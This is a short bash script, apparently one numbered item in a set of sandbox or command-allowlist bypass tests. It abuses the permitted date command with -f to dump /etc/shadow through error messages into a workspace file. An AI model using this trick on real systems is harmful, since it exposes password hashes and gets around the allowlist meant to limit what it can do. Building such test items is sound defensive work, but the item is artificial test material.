#!/usr/bin/env bash
# attack-class: 21
# title: date -f /etc/shadow
# why: date is allowed; -f reads a file and echoes each unparsable line in its error message

date -f /etc/shadow 2>&1 | tee /workspace/shadow.txt
